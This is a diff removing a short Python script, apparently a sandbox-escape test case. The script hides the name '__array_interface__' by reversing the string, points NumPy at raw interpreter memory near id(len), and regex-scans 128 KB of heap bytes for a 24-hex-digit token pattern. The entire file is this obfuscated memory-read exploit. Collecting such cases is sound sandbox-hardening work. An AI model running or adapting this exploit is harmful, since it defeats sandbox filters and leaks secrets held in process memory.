@@ -1,9 +1,0 @@
-# reaches: super().__setattr__ with a reversed name is an array interface over the heap
-import re
-import numpy as np
-class Point:
-    def put(self, name, value):
-        super().__setattr__(name, value)
-p = Point()
-p.put("".join(reversed("__ecafretni_yarra__")), {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3})
-print(set(re.findall(rb"t[0-9a-f]{24}", np.asarray(p).tobytes())))
